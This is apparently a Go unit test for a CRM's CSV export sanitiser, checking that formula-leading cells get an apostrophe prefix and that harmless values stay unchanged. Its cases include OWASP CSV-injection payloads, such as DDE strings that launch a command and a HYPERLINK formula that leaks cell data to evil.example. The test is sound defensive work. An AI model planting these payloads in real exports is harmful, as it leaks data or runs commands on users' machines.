package spreadsheet_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/calore-crm/calore/internal/spreadsheet"
)

// TestCell replays the OWASP CSV-injection payloads and the harmless values
// that must stay as they are.
// Security: seen failing (19 rows) with Cell returning s unchanged.
func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		// OWASP payloads
		{`=1+1`, `'=1+1`},
		{`=HYPERLINK("http://evil.example?leak="&A1,"Error: click")`, `'=HYPERLINK("http://evil.example?leak="&A1,"Error: click")`},
		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{`+2+3+cmd|' /C calc'!A0`, `'+2+3+cmd|' /C calc'!A0`},
		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\n=1+1", "'\n=1+1"},
		{`-1e3+cmd`, `'-1e3+cmd`},
		{`+39 02 1234 5678`, `'+39 02 1234 5678`},
		{`-`, `'-`},
		{`+`, `'+`},
		// blanks before a trigger, full-width forms
		{` =1+1`, `' =1+1`},
		{"\u00a0@SUM(A1)", "'\u00a0@SUM(A1)"},
		{"\uff1d1+1", "'\uff1d1+1"},
		{"  \uff0bcmd", "'  \uff0bcmd"},
		// harmless: unchanged
		{``, ``},
		{`Rossi`, `Rossi`},
		{`O'Brien`, `O'Brien`},
		{`a=b`, `a=b`},
		{`3`, `3`},
		{`-12.5`, `-12.5`},
		{`+7`, `+7`},
		{`-0.5e-3`, `-0.5e-3`},
		{`-.5`, `-.5`},
		{` -12`, ` -12`},
		{`2026-01-01`, `2026-01-01`},
		{`'=already`, `'=already`},
	}
	for _, tt := range tests {
		if got := spreadsheet.Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestWriter: every cell of every record goes through Cell and the CSV reads
// back as written.
func TestWriter(t *testing.T) {
	var b bytes.Buffer
	w := spreadsheet.NewCSVWriter(&b)
	in := []string{"=1+1", "-12.5", "Rossi, Maria", `-2+3+cmd|' /C calc'!A0`}
	if err := w.Write(in); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"'=1+1", "-12.5", "Rossi, Maria", `'-2+3+cmd|' /C calc'!A0`}
	if len(rows) != 1 || len(rows[0]) != len(want) {
		t.Fatalf("rows %q", rows)
	}
	for i := range want {
		if rows[0][i] != want[i] {
			t.Errorf("cell %d = %q, want %q", i, rows[0][i], want[i])
		}
	}
	if in[0] != "=1+1" {
		t.Errorf("Write modified its argument: %q", in)
	}
}
